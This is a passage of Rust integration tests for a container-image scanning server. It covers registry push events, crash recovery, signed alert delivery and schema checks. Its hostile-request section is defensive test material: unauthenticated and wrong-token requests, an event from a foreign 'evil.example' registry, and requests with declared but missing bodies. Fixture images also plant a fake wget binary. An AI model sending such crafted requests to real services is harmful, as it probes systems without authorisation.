//! `stowaway serve` end to end: a real Distribution registry (Debian's
//! `docker-registry`) whose `notifications` endpoint is the server started
//! by the test, images pushed with skopeo, results read over HTTP and from
//! the SQLite store; a burst of events; `kill -9` and restart; signed alerts
//! to a receiver that is down and then up; the Harbor adapter checked
//! against its OpenAPI file (PyYAML + jsonschema); hostile requests.

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Stdio};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use serde_json::{Value, json};
use stowaway::fixture::{ImageBuilder, LayerBuilder};

use crate::registry::{Registry, layout_of, push, start, start_with};
use crate::sources::scenario;
use crate::util::*;

const TOKEN: &str = "test-token-0123456789abcdef";
const SECRET: &str = "notify-secret-for-tests";

/// An HTTP answer.
struct Resp {
    status: u16,
    headers: BTreeMap<String, String>,
    body: Vec<u8>,
}

impl Resp {
    fn json(&self) -> Value {
        serde_json::from_slice(&self.body)
            .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&self.body)))
    }
}

/// One HTTP/1.1 request over a fresh loopback connection.
fn http(addr: &str, method: &str, path: &str, headers: &[(&str, &str)], body: &[u8]) -> Resp {
    let mut s = TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    let mut req = format!(
        "{method} {path} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\nContent-Length: {}\r\n",
        body.len()
    );
    for (k, v) in headers {
        req.push_str(&format!("{k}: {v}\r\n"));
    }
    req.push_str("\r\n");
    s.write_all(req.as_bytes()).unwrap();
    // The server may answer (413) before reading a large body.
    let _ = s.write_all(body);
    let mut raw = Vec::new();
    let _ = s.read_to_end(&mut raw);
    parse_response(&raw)
}

/// A POST that declares a body of `len` bytes and sends none of it.
fn http_declared(addr: &str, path: &str, len: usize) -> Resp {
    let mut s = TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    let req = format!(
        "POST {path} HTTP/1.1\r\nHost: {addr}\r\nAuthorization: Bearer {TOKEN}\r\nConnection: close\r\nContent-Length: {len}\r\n\r\n"
    );
    s.write_all(req.as_bytes()).unwrap();
    let mut raw = Vec::new();
    let _ = s.read_to_end(&mut raw);
    parse_response(&raw)
}

fn parse_response(raw: &[u8]) -> Resp {
    let end = raw
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .unwrap_or_else(|| panic!("no HTTP head in {} bytes of response", raw.len()));
    let head = String::from_utf8_lossy(&raw[..end]).to_string();
    let mut lines = head.lines();
    let status = lines
        .next()
        .unwrap()
        .split(' ')
        .nth(1)
        .unwrap()
        .parse()
        .unwrap();
    let headers = lines
        .filter_map(|l| l.split_once(':'))
        .map(|(k, v)| (k.trim().to_ascii_lowercase(), v.trim().to_string()))
        .collect::<BTreeMap<_, _>>();
    let mut body = raw[end + 4..].to_vec();
    if headers
        .get("transfer-encoding")
        .is_some_and(|t| t == "chunked")
    {
        body = unchunk(&body);
    }
    Resp {
        status,
        headers,
        body,
    }
}

fn unchunk(mut b: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    while let Some(i) = b.windows(2).position(|w| w == b"\r\n") {
        let n = usize::from_str_radix(std::str::from_utf8(&b[..i]).unwrap().trim(), 16).unwrap();
        if n == 0 {
            break;
        }
        out.extend_from_slice(&b[i + 2..i + 2 + n]);
        b = &b[i + 4 + n..];
    }
    out
}

fn auth() -> String {
    format!("Bearer {TOKEN}")
}

fn get(addr: &str, path: &str) -> Resp {
    http(addr, "GET", path, &[("Authorization", &auth())], b"")
}

fn post_json(addr: &str, path: &str, v: &Value) -> Resp {
    http(
        addr,
        "POST",
        path,
        &[
            ("Authorization", &auth()),
            ("Content-Type", "application/json"),
        ],
        v.to_string().as_bytes(),
    )
}

/// A `stowaway serve` process; killed (SIGKILL) on drop.
struct Server {
    child: Child,
    addr: String,
    db: PathBuf,
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Server {
    /// Start a server on `port` (0: a port the server takes itself) and
    /// wait until it answers.
    fn start(dir: &Path, port: u16, extra: &[&str], env: &[(&str, &str)]) -> Server {
        let s = Server::spawn(dir, port, extra, env);
        wait_for(Duration::from_secs(30), "server start", || {
            TcpStream::connect(&s.addr).is_ok()
                && http(&s.addr, "GET", "/healthz", &[], b"").status == 200
        });
        s
    }

    /// Start the server and wait for its own "listening on" line (the
    /// address it bound), not for a connect: a port found free beforehand
    /// can be taken by another test before this server binds it, and a
    /// connect would then reach that other server.
    fn spawn(dir: &Path, port: u16, extra: &[&str], env: &[(&str, &str)]) -> Server {
        let token = dir.join("token");
        std::fs::write(&token, format!("{TOKEN}\n")).unwrap();
        std::fs::write(dir.join("secret"), SECRET).unwrap();
        let db = dir.join("serve.db");
        let log = dir.join("serve.log");
        let seen = std::fs::read(&log).map(|l| l.len()).unwrap_or(0);
        let mut c = bin();
        c.args([
            "serve",
            "--listen",
            &format!("127.0.0.1:{port}"),
            "--token-file",
            token.to_str().unwrap(),
            "--db",
            db.to_str().unwrap(),
        ])
        .args(extra)
        .stdout(Stdio::null())
        .stderr(Stdio::from(
            std::fs::OpenOptions::new()
                .create(true)
                .append(true)
                .open(&log)
                .unwrap(),
        ));
        for (k, v) in env {
            c.env(k, v);
        }
        let mut child = c.spawn().unwrap();
        let started = Instant::now();
        let addr = loop {
            let text = std::fs::read(&log).unwrap_or_default();
            let new = String::from_utf8_lossy(text.get(seen..).unwrap_or_default());
            if let Some(addr) = listening_addr(&new) {
                break addr;
            }
            if let Some(status) = child.try_wait().unwrap() {
                panic!("stowaway serve exited ({status}) before listening:\n{new}");
            }
            assert!(
                started.elapsed() < Duration::from_secs(30),
                "stowaway serve did not listen within 30 s:\n{new}"
            );
            std::thread::sleep(Duration::from_millis(20));
        };
        if port != 0 {
            assert_eq!(addr, format!("127.0.0.1:{port}"));
        }
        Server { child, addr, db }
    }

    fn pid(&self) -> i32 {
        self.child.id() as i32
    }

    fn sql(&self, q: &str) -> i64 {
        let c = rusqlite_open(&self.db);
        c.query_row(q, [], |r| r.get(0)).unwrap()
    }
}

/// The flake this fixture had: a port found free, then taken by another
/// test's server before `serve` bound it, and the start-up check (a connect
/// and GET /healthz) answered by that other server. Now the fixture waits
/// for this server's own "listening on" line and says why it is missing.
#[test]
#[should_panic(expected = "exited")]
fn the_server_fixture_never_takes_another_servers_port_for_its_own() {
    let other = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = other.local_addr().unwrap().port();
    let t = tmp();
    let _ = Server::start(t.path(), port, &[], &[]);
}

/// The address of a server's "listening on http(s)://ADDR" line in `log`.
fn listening_addr(log: &str) -> Option<String> {
    let line = log.lines().find(|l| l.contains("listening on "))?;
    let url = line.split("listening on ").nth(1)?;
    let addr = url.split("://").nth(1)?;
    Some(addr.trim().to_string())
}

fn rusqlite_open(db: &Path) -> rusqlite::Connection {
    let c = rusqlite::Connection::open(db).unwrap();
    c.busy_timeout(Duration::from_secs(30)).unwrap();
    c
}

fn wait_for(limit: Duration, what: &str, mut f: impl FnMut() -> bool) {
    let t = Instant::now();
    while !f() {
        assert!(t.elapsed() < limit, "timed out waiting for {what}");
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// The digest a registry serves for `repo:tag`.
fn digest_of(reg: &Registry, repo_tag: &str) -> String {
    let out = std::process::Command::new("skopeo")
        .args([
            "inspect",
            "--tls-verify=false",
            "--format",
            "{{.Digest}}",
            &format!("docker://{}/{repo_tag}", reg.addr),
        ])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}

/// A slow registry: a TCP proxy on loopback in front of `upstream` that
/// holds each new connection for the current delay before forwarding it,
/// so a scan stays running long enough to stop the server under it (the
/// product has no test hook for that). The delay can be changed while it runs.
struct SlowProxy {
    addr: String,
    delay_ms: Arc<AtomicU64>,
}

impl SlowProxy {
    fn start(upstream: &str, delay: Duration) -> SlowProxy {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = l.local_addr().unwrap().to_string();
        let delay_ms = Arc::new(AtomicU64::new(delay.as_millis() as u64));
        let (d, up) = (delay_ms.clone(), upstream.to_string());
        std::thread::spawn(move || {
            for c in l.incoming().flatten() {
                let (d, up) = (d.clone(), up.clone());
                std::thread::spawn(move || {
                    std::thread::sleep(Duration::from_millis(d.load(Ordering::SeqCst)));
                    if let Ok(u) = TcpStream::connect(&up) {
                        pipe(c, u);
                    }
                });
            }
        });
        SlowProxy { addr, delay_ms }
    }

    fn set_delay(&self, d: Duration) {
        self.delay_ms.store(d.as_millis() as u64, Ordering::SeqCst);
    }
}

/// Copy both ways until each side closes.
fn pipe(a: TcpStream, b: TcpStream) {
    let (mut a2, mut b2) = (a.try_clone().unwrap(), b.try_clone().unwrap());
    let t = std::thread::spawn(move || {
        let _ = std::io::copy(&mut a2, &mut b2);
        let _ = b2.shutdown(std::net::Shutdown::Write);
    });
    let (mut a, mut b) = (a, b);
    let _ = std::io::copy(&mut b, &mut a);
    let _ = a.shutdown(std::net::Shutdown::Write);
    let _ = t.join();
}

/// A CloudEvents receiver on `port` (listening from now on) that checks
/// each alert's HMAC and records event ids (duplicates included).
struct Receiver {
    ids: Arc<Mutex<Vec<String>>>,
    bad: Arc<Mutex<Vec<String>>>,
    bodies: Arc<Mutex<Vec<Value>>>,
}

fn receiver(port: ReservedPort) -> Receiver {
    let l = port.listen();
    let r = Receiver {
        ids: Default::default(),
        bad: Default::default(),
        bodies: Default::default(),
    };
    let (ids, bad, bodies) = (r.ids.clone(), r.bad.clone(), r.bodies.clone());
    std::thread::spawn(move || {
        for s in l.incoming().flatten() {
            if let Some((head, body)) = read_request(s.try_clone().unwrap()) {
                let ts = header(&head, "x-stowaway-timestamp");
                let sig = header(&head, "x-stowaway-signature");
                let want = hmac_hex(SECRET.as_bytes(), format!("{ts}.").as_bytes(), &body);
                let v: Value = serde_json::from_slice(&body).unwrap_or(Value::Null);
                if sig != format!("sha256={want}") {
                    bad.lock().unwrap().push(sig);
                } else {
                    ids.lock()
                        .unwrap()
                        .push(v["id"].as_str().unwrap_or("").to_string());
                    bodies.lock().unwrap().push(v);
                }
                let mut s = s;
                let _ = s.write_all(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n");
            }
        }
    });
    r
}

fn read_request(mut s: TcpStream) -> Option<(String, Vec<u8>)> {
    s.set_read_timeout(Some(Duration::from_secs(5))).ok()?;
    let mut buf = Vec::new();
    let mut chunk = [0u8; 4096];
    loop {
        if let Some(end) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
            let head = String::from_utf8_lossy(&buf[..end]).to_string();
            let len: usize = header(&head, "content-length").parse().unwrap_or(0);
            while buf.len() < end + 4 + len {
                let n = s.read(&mut chunk).ok()?;
                if n == 0 {
                    return None;
                }
                buf.extend_from_slice(&chunk[..n]);
            }
            return Some((head, buf[end + 4..end + 4 + len].to_vec()));
        }
        let n = s.read(&mut chunk).ok()?;
        if n == 0 {
            return None;
        }
        buf.extend_from_slice(&chunk[..n]);
    }
}

fn header(head: &str, name: &str) -> String {
    head.lines()
        .filter_map(|l| l.split_once(':'))
        .find(|(k, _)| k.trim().eq_ignore_ascii_case(name))
        .map(|(_, v)| v.trim().to_string())
        .unwrap_or_default()
}

/// HMAC-SHA256 (RFC 2104) over `a ++ b`, written out here so the test does
/// not trust the server's implementation.
fn hmac_hex(key: &[u8], a: &[u8], b: &[u8]) -> String {
    use stowaway::digest::Hasher;
    let mut k = [0u8; 64];
    k[..key.len()].copy_from_slice(key);
    let pad = |x: u8| k.iter().map(|b| b ^ x).collect::<Vec<u8>>();
    let mut inner = Hasher::new();
    inner.update(&pad(0x36));
    inner.update(a);
    inner.update(b);
    let mut outer = Hasher::new();
    outer.update(&pad(0x5c));
    outer.update(&inner.finish().0);
    outer.finish().hex()
}

fn notifications(port: u16) -> String {
    format!(
        "notifications:\n  endpoints:\n    - name: stowaway\n      url: http://127.0.0.1:{port}/v1/events/distribution\n      headers:\n        Authorization: [\"Bearer {TOKEN}\"]\n      timeout: 2s\n      threshold: 3\n      backoff: 1s\n"
    )
}

fn wait_image(addr: &str, digest: &str, limit: Duration) -> Value {
    let t = Instant::now();
    loop {
        let r = get(addr, &format!("/v1/images/{digest}"));
        if r.status == 200 {
            return r.json();
        }
        assert_eq!(r.status, 404, "{}", String::from_utf8_lossy(&r.body));
        let last = String::from_utf8_lossy(&r.body);
        assert!(t.elapsed() < limit, "image {digest} not scanned: {last}");
        std::thread::sleep(Duration::from_millis(200));
    }
}

#[test]
fn registry_push_is_scanned_once_per_digest_and_alerted() {
    // Held until the server binds it (the registry must know it first).
    let port = ReservedPort::loopback();
    let Some(reg) = start_with(&notifications(port.port)) else {
        return;
    };
    let t = tmp();
    let rport = ReservedPort::loopback();
    let notify = format!("http://127.0.0.1:{}/hook", rport.port);
    let rx = receiver(rport);
    let registry = format!("{0}=http://{0}", reg.addr);
    let secret = t.path().join("secret");
    let srv = Server::start(
        t.path(),
        port.port,
        &[
            "--registry",
            &registry,
            "--notify",
            &notify,
            "--notify-secret-file",
            secret.to_str().unwrap(),
        ],
        &[],
    );
    let img = scenario().tag("v1").build();
    let src = layout_of(&img, &t.path().join("src"));
    for tag in ["v1", "v2", "v3"] {
        push(
            &format!("{src}:v1"),
            &format!("docker://{}/team/app:{tag}", reg.addr),
            None,
            false,
        );
    }
    let digest = digest_of(&reg, "team/app:v1");
    let doc = wait_image(&srv.addr, &digest, Duration::from_secs(90));
    assert_eq!(doc["digest"], json!(digest));
    assert_eq!(doc["repository"], json!("team/app"));
    assert!(
        ["pass", "warn", "deny"].contains(&doc["verdict"].as_str().unwrap()),
        "{doc}"
    );
    assert_same_findings(&doc, &format!("{src}:v1"));
    // The result and the job validate against their committed schemas.
    let job = get(&srv.addr, &format!("/v1/scans/{}", doc["scan"])).json();
    assert_eq!(job["result"], doc, "the job shows the stored result");
    assert_eq!(job["state"], "done");
    if crate::schemas::have_jsonschema() {
        crate::schemas::validate("serve-result", &doc.to_string()).unwrap();
        crate::schemas::validate("serve-job", &job.to_string()).unwrap();
    }
    // Three tags, one digest: all three events point at one scan.
    wait_for(Duration::from_secs(30), "three push events", || {
        srv.sql("SELECT COUNT(*) FROM serve_requests") >= 3
    });
    assert_eq!(srv.sql("SELECT COUNT(*) FROM serve_jobs"), 1);
    assert_eq!(
        srv.sql(&format!(
            "SELECT COUNT(*) FROM scans WHERE digest = '{digest}'"
        )),
        1
    );
    assert_eq!(srv.sql("SELECT COUNT(DISTINCT job) FROM serve_requests"), 1);
    // The scenario has high findings: one signed alert.
    assert_one_alert(&rx, &digest);
    assert_metrics(&srv.addr);
}

/// The result's findings are the objects `scan --format json` writes for `reference`.
fn assert_same_findings(doc: &Value, reference: &str) {
    let want = stowaway::report::json::scan(&scan_ok(reference), stowaway::Severity::High);
    let codes = |v: &Value| -> Vec<String> {
        let mut c: Vec<String> = v
            .as_array()
            .unwrap()
            .iter()
            .map(|f| format!("{} {} {}", f["code"], f["path"], f["technique"]))
            .collect();
        c.sort();
        c
    };
    assert_eq!(codes(&doc["findings"]), codes(&want["findings"]));
    // Every field of the scan document's finding, with the same value.
    for w in want["findings"].as_array().unwrap() {
        let got = doc["findings"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| {
                f["code"] == w["code"] && f["path"] == w["path"] && f["evidence"] == w["evidence"]
            })
            .unwrap_or_else(|| panic!("{w} not in the result"));
        for (k, v) in w.as_object().unwrap() {
            assert_eq!(&got[k], v, "{k} of {w}");
        }
        assert!(
            got["action"].is_string() && got["why"].is_string() && got["fingerprint"].is_string()
        );
    }
}

fn assert_one_alert(rx: &Receiver, digest: &str) {
    wait_for(Duration::from_secs(30), "the alert", || {
        !rx.ids.lock().unwrap().is_empty()
    });
    assert!(
        rx.bad.lock().unwrap().is_empty(),
        "bad signatures: {:?}",
        rx.bad.lock().unwrap()
    );
    let ev = rx.bodies.lock().unwrap()[0].clone();
    assert_eq!(ev["specversion"], "1.0");
    if crate::schemas::have_jsonschema() {
        crate::schemas::validate("serve-alert", &ev.to_string()).unwrap();
    }
    assert_eq!(ev["type"], "dev.stowaway.scan.verdict");
    assert_eq!(ev["source"], "stowaway/serve");
    assert_eq!(ev["data"]["digest"], json!(digest));
    assert!(!ev["data"]["new_findings"].as_array().unwrap().is_empty());
}

fn assert_metrics(addr: &str) {
    let m = String::from_utf8(get(addr, "/metrics").body).unwrap();
    for line in [
        "stowaway_jobs{state=\"done\"} 1",
        "stowaway_queue_depth 0",
        "stowaway_scan_duration_seconds_count 1",
        "stowaway_events_ignored_total",
        "stowaway_layer_cache_misses_total",
    ] {
        assert!(m.contains(line), "{line} not in\n{m}");
    }
}

#[test]
fn a_burst_of_200_push_events_loses_none() {
    let t = tmp();
    // Jobs fail at once (nothing listens on port 1) and are dead-lettered.
    let srv = Server::start(
        t.path(),
        0,
        &[
            "--registry",
            "reg.test=http://127.0.0.1:1",
            "--max-attempts",
            "1",
            "--workers",
            "1",
            // Under a full parallel test run on two cores the server can be
            // starved for seconds; the slow-client cut-offs are tested
            // elsewhere, here they must not turn a slow accept into a
            // dropped connection.
            "--header-timeout",
            "120",
            "--body-timeout",
            "120",
        ],
        &[],
    );
    let rss = |pid: i32| -> u64 {
        let s = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
        s.lines()
            .find(|l| l.starts_with("VmRSS:"))
            .and_then(|l| l.split_whitespace().nth(1)?.parse().ok())
            .unwrap_or(0)
    };
    let before = rss(srv.pid());
    let lat = Arc::new(Mutex::new(Vec::new()));
    let threads: Vec<_> = (0..8)
        .map(|th| {
            let (addr, lat) = (srv.addr.clone(), lat.clone());
            std::thread::spawn(move || {
                for i in 0..25 {
                    let d = format!("sha256:{:064x}", th * 1000 + i);
                    let env = json!({"events": [{"id": format!("e{th}-{i}"), "action": "push",
                        "target": {"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": d, "repository": "burst/app", "tag": format!("t{i}")},
                        "request": {"host": "reg.test"}}]});
                    let started = Instant::now();
                    let r = post_json(&addr, "/v1/events/distribution", &env);
                    lat.lock().unwrap().push(started.elapsed());
                    assert_eq!(r.status, 202, "{}", String::from_utf8_lossy(&r.body));
                }
            })
        })
        .collect();
    for th in threads {
        th.join().unwrap();
    }
    assert_eq!(srv.sql("SELECT COUNT(*) FROM serve_jobs"), 200);
    assert_eq!(srv.sql("SELECT COUNT(*) FROM serve_requests"), 200);
    let mut l = lat.lock().unwrap().clone();
    l.sort();
    eprintln!(
        "serve accept latency over 200 events (8 clients, loopback): p50 {:?} p99 {:?} max {:?}; server RSS {} KiB before, {} KiB after",
        l[100],
        l[197],
        l[199],
        before,
        rss(srv.pid())
    );
}

fn small_image(n: usize) -> stowaway::fixture::BuiltImage {
    ImageBuilder::new()
        .tag("v1")
        .layer(
            LayerBuilder::new()
                .file("app/data", format!("image {n}").as_bytes(), 0o644)
                .file("usr/bin/wget", b"\x7fELF wget", 0o755),
        )
        .build()
}

#[test]
fn kill_9_then_restart_finishes_every_job_exactly_once() {
    let Some(reg) = start(None) else { return };
    let t = tmp();
    let mut digests = Vec::new();
    for n in 0..4 {
        let src = layout_of(&small_image(n), &t.path().join(format!("src{n}")));
        push(
            &format!("{src}:v1"),
            &format!("docker://{}/k9/app{n}:v1", reg.addr),
            None,
            false,
        );
        digests.push((
            format!("k9/app{n}"),
            digest_of(&reg, &format!("k9/app{n}:v1")),
        ));
    }
    // Pulls go through a slow proxy: the scans are still running when the
    // server is killed.
    let slow = SlowProxy::start(&reg.addr, Duration::from_secs(4));
    let registry = format!("{}=http://{}", reg.addr, slow.addr);
    let args = [
        "--registry",
        registry.as_str(),
        "--workers",
        "2",
        "--lease",
        "2",
    ];
    let srv = Server::start(t.path(), 0, &args, &[]);
    let ids = queue_scans(&srv, &reg, &digests);
    wait_for(Duration::from_secs(20), "two running jobs", || {
        srv.sql("SELECT COUNT(*) FROM serve_jobs WHERE state = 'running'") == 2
    });
    // SAFETY: killing the server this test started.
    unsafe { libc::kill(srv.pid(), libc::SIGKILL) };
    let db = srv.db.clone();
    drop(srv);
    let c = rusqlite_open(&db);
    let queued: i64 = c
        .query_row(
            "SELECT COUNT(*) FROM serve_jobs WHERE state IN ('queued', 'running')",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(queued, 4, "every accepted job survived kill -9");
    slow.set_delay(Duration::ZERO);
    let srv = Server::start(t.path(), 0, &args, &[]);
    for id in &ids {
        wait_for(Duration::from_secs(90), "jobs after restart", || {
            get(&srv.addr, &format!("/v1/scans/{id}")).json()["state"] == "done"
        });
    }
    assert_eq!(
        srv.sql("SELECT COUNT(*) FROM serve_jobs WHERE state = 'done'"),
        4
    );
    for (_, d) in &digests {
        assert_eq!(
            srv.sql(&format!("SELECT COUNT(*) FROM scans WHERE digest = '{d}'")),
            1,
            "{d} recorded once"
        );
    }
}

/// Ask for a scan of each (repository, digest); return the job ids.
fn queue_scans(srv: &Server, reg: &Registry, digests: &[(String, String)]) -> Vec<i64> {
    let mut ids = Vec::new();
    for (repo, d) in digests {
        let r = post_json(
            &srv.addr,
            "/v1/scans",
            &json!({"reference": format!("{}/{repo}@{d}", reg.addr)}),
        );
        assert_eq!(r.status, 202, "{}", String::from_utf8_lossy(&r.body));
        ids.push(r.json()["id"].as_i64().unwrap());
    }
    ids
}

#[test]
fn sigterm_stops_accepting_and_releases_the_running_job() {
    let t = tmp();
    // A registry that holds the pull for 20 s: the job outlives the grace period.
    let slow = SlowProxy::start("127.0.0.1:1", Duration::from_secs(20));
    let registry = format!("reg.test=http://{}", slow.addr);
    let args = ["--registry", &registry, "--shutdown-grace", "1"];
    let mut srv = Server::start(t.path(), 0, &args, &[]);
    let d = format!("sha256:{}", "cd".repeat(32));
    let ev = json!({"events": [{"action": "push", "target": {"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": d, "repository": "x/y"}, "request": {"host": "reg.test"}}]});
    assert_eq!(
        post_json(&srv.addr, "/v1/events/distribution", &ev).status,
        202
    );
    wait_for(Duration::from_secs(20), "the running job", || {
        srv.sql("SELECT COUNT(*) FROM serve_jobs WHERE state = 'running'") == 1
    });
    // SAFETY: signalling the server this test started.
    unsafe { libc::kill(srv.pid(), libc::SIGTERM) };
    let status = srv.child.wait().unwrap();
    assert!(status.success(), "{status:?}");
    // The job outlived its grace period: back in the queue, the attempt not counted.
    assert_eq!(srv.sql("SELECT COUNT(*) FROM serve_jobs WHERE state = 'queued' AND attempts = 0 AND lease_owner IS NULL"), 1);
    assert!(
        TcpStream::connect(&srv.addr).is_err(),
        "no longer listening"
    );
}

#[test]
fn alerts_reach_a_receiver_that_was_down_exactly_once() {
    let Some(reg) = start(None) else { return };
    let t = tmp();
    let src = layout_of(&scenario().tag("v1").build(), &t.path().join("src"));
    push(
        &format!("{src}:v1"),
        &format!("docker://{}/al/app:v1", reg.addr),
        None,
        false,
    );
    let digest = digest_of(&reg, "al/app:v1");
    // Refuses connections (the receiver is down) until it listens below.
    let rport = ReservedPort::loopback();
    let notify = format!("http://127.0.0.1:{}/hook", rport.port);
    let registry = format!("{0}=http://{0}", reg.addr);
    let secret = t.path().join("secret");
    std::fs::write(&secret, SECRET).unwrap();
    let args = [
        "--registry",
        &registry,
        "--notify",
        &notify,
        "--notify-secret-file",
        secret.to_str().unwrap(),
        "--notify-max-backoff",
        "1",
    ];
    let srv = Server::start(t.path(), 0, &args, &[]);
    let r = post_json(
        &srv.addr,
        "/v1/scans",
        &json!({"reference": format!("{}/al/app@{digest}", reg.addr)}),
    );
    assert_eq!(r.status, 202);
    wait_image(&srv.addr, &digest, Duration::from_secs(60));
    wait_for(Duration::from_secs(20), "failed deliveries", || {
        srv.sql("SELECT MAX(attempts) FROM serve_outbox") >= 2
    });
    assert_eq!(
        srv.sql("SELECT COUNT(*) FROM serve_outbox WHERE state = 'pending'"),
        1
    );
    let rx = receiver(rport);
    wait_for(Duration::from_secs(20), "delivery", || {
        !rx.ids.lock().unwrap().is_empty()
    });
    std::thread::sleep(Duration::from_secs(3));
    let ids = rx.ids.lock().unwrap().clone();
    assert_eq!(ids.len(), 1, "delivered once: {ids:?}");
    assert!(rx.bad.lock().unwrap().is_empty());
    assert_eq!(
        srv.sql("SELECT COUNT(*) FROM serve_outbox WHERE state = 'delivered'"),
        1
    );
}

#[test]
fn hostile_requests_get_4xx_and_queue_nothing() {
    let t = tmp();
    let args = [
        "--registry",
        "reg.test=http://127.0.0.1:1",
        "--max-body",
        "64K",
    ];
    let srv = Server::start(t.path(), 0, &args, &[]);
    let a = srv.addr.as_str();
    let d = format!("sha256:{}", "ab".repeat(32));
    let event = |host: &str| push_event(&d, host);
    let cases = hostile_cases(a, &d);
    for (what, r, want) in cases {
        assert_eq!(
            r.status,
            want,
            "{what}: {}",
            String::from_utf8_lossy(&r.body)
        );
        if r.status != 401 || !what.starts_with("harbor") {
            assert!(r.json().get("error").is_some(), "{what}: JSON error");
        }
    }
    assert_eq!(
        srv.sql("SELECT COUNT(*) FROM serve_jobs"),
        0,
        "no job from garbage"
    );
    assert_eq!(http(a, "GET", "/healthz", &[], b"").status, 200);
    assert_eq!(http(a, "GET", "/readyz", &[], b"").status, 200);
    // The one valid event is queued (and mixed with a foreign one, nothing is).
    let mixed =
        json!({"events": [event("reg.test")["events"][0], event("evil.example")["events"][0]]});
    assert_eq!(post_json(a, "/v1/events/distribution", &mixed).status, 403);
    assert_eq!(srv.sql("SELECT COUNT(*) FROM serve_jobs"), 0);
    assert_eq!(
        post_json(a, "/v1/events/distribution", &event("reg.test")).status,
        202
    );
    assert_eq!(srv.sql("SELECT COUNT(*) FROM serve_jobs"), 1);
}

/// Every body of the server's own routes — health, errors, what a request
/// queued, a code's explanation — validates against its committed schema
/// (`schemas/serve-*.schema.json`), with the field values clients read.
#[cfg_attr(
    not(has_tool = "py-jsonschema"),
    ignore = "needs Python with jsonschema (STOWAWAY_PYTHON: see .ci/run)"
)]
#[test]
fn serve_bodies_match_their_schemas() {
    if !crate::schemas::have_jsonschema() {
        return;
    }
    let t = tmp();
    let args = ["--registry", "reg.test=http://127.0.0.1:1"];
    let srv = Server::start(t.path(), 0, &args, &[]);
    let a = srv.addr.as_str();
    let check = |schema: &str, what: &str, r: &Resp, status: u16| -> Value {
        let body = String::from_utf8_lossy(&r.body).into_owned();
        assert_eq!(r.status, status, "{what}: {body}");
        crate::schemas::validate(schema, &body).unwrap_or_else(|e| panic!("{what}: {e}\n{body}"));
        r.json()
    };
    let health = check(
        "serve-health",
        "healthz",
        &http(a, "GET", "/healthz", &[], b""),
        200,
    );
    assert_eq!(health, json!({"status": "ok"}));
    let ready = check(
        "serve-health",
        "readyz",
        &http(a, "GET", "/readyz", &[], b""),
        200,
    );
    assert_eq!(ready, json!({"status": "ready"}));
    let d = format!("sha256:{}", "cd".repeat(32));
    for (what, r, want) in hostile_cases(a, &d) {
        if !what.starts_with("harbor") {
            let e = check("serve-error", what, &r, want);
            assert_eq!(e["status"], want, "{what}");
        }
    }
    let e = check("serve-error", "no route", &get(a, "/v2/nothing"), 404);
    assert_eq!(e, json!({"error": "no such endpoint", "status": 404}));

    // Two events: a push (queued) and a pull (ignored).
    let mut events = push_event(&d, "reg.test");
    let mut pull = events["events"][0].clone();
    pull["action"] = json!("pull");
    events["events"].as_array_mut().unwrap().push(pull);
    let r = post_json(a, "/v1/events/distribution", &events);
    let accepted = check("serve-events-accepted", "events", &r, 202);
    assert_eq!(accepted["ignored"], 1, "{accepted}");
    let job = accepted["jobs"][0].as_i64().expect("a job id");
    assert_eq!(accepted["jobs"].as_array().unwrap().len(), 1);

    let d2 = format!("sha256:{}", "ef".repeat(32));
    let r = post_json(
        a,
        "/v1/scans",
        &json!({"reference": format!("reg.test/x/y@{d2}")}),
    );
    let scan = check("serve-scan-accepted", "scan request", &r, 202);
    assert_eq!(scan["digest"], d2.as_str());
    assert!(scan["id"].as_i64().is_some_and(|id| id != job), "{scan}");

    // A result asked for before its scan finished names the job.
    let r = get(a, &format!("/v1/images/{d}"));
    let pending = check("serve-error", "pending result", &r, 404);
    assert_eq!(pending["error"], "not scanned yet");
    assert_eq!(pending["scan"], job);
    assert!(pending.get("last_error").is_some(), "{pending}");
    let state = pending["state"].as_str().unwrap();
    assert!(["queued", "running", "dead"].contains(&state), "{pending}");

    let r = http(a, "GET", "/v1/explain/absolute-path", &[], b"");
    let explained = check("serve-explain", "explain", &r, 200);
    assert_eq!(explained["code"], "absolute-path");
    assert_eq!(explained["technique"], "T1611");
    let r = http(a, "GET", "/v1/explain/no-such-code", &[], b"");
    check("serve-error", "unknown code", &r, 404);
}

/// The event for digest `d` pushed to `host`.
fn push_event(d: &str, host: &str) -> Value {
    json!({"events": [{"action": "push", "target": {"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": d, "repository": "x/y"}, "request": {"host": host}}]})
}

/// Hostile requests, their answers and the status each must get.
fn hostile_cases(a: &str, d: &str) -> Vec<(&'static str, Resp, u16)> {
    let mut cases = auth_cases(a, d);
    cases.extend(body_cases(a, d));
    cases
}

/// Requests without the right token.
fn auth_cases(a: &str, d: &str) -> Vec<(&'static str, Resp, u16)> {
    let event = |host: &str| push_event(d, host);
    let ev = event("reg.test").to_string();
    vec![
        (
            "no token",
            http(a, "POST", "/v1/events/distribution", &[], ev.as_bytes()),
            401,
        ),
        (
            "wrong token",
            http(
                a,
                "POST",
                "/v1/events/distribution",
